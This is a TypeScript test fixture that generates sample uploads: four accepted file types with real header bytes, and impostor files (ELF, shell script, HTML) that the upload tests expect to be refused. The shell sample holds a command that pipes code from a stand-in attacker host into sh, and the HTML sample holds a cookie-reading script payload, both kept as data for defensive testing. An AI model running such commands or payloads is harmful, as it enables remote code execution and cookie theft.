// Files of each kind the upload tests send: the four accepted types (a few real header bytes,
// then filler) and the impostors (an ELF executable, a shell script, HTML) that are refused
// whatever they are named or declared as.
import { randomBytes } from 'node:crypto'

function padded(head: Buffer, size: number): Buffer {
  return Buffer.concat([head, randomBytes(Math.max(0, size - head.length))])
}

export const sample = {
  pdf: (size = 4096) =>
    padded(Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n', 'latin1'), size),
  png: (size = 4096) =>
    padded(
      Buffer.concat([
        Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]),
        Buffer.from('IHDR'),
        Buffer.from([0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0]),
      ]),
      size,
    ),
  jpeg: (size = 4096) =>
    padded(Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46, 0, 1]), size),
  webp: (size = 4096) =>
    padded(
      Buffer.concat([
        Buffer.from('RIFF'),
        Buffer.from([0x24, 0, 0, 0]),
        Buffer.from('WEBPVP8 '),
        Buffer.from([0x18, 0, 0, 0]),
      ]),
      size,
    ),
  elf: (size = 4096) =>
    padded(Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0]), size),
  shellScript: () => Buffer.from('#!/bin/sh\ncurl -s http://evil.example/x | sh\n'),
  html: () =>
    Buffer.from('<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>'),
}
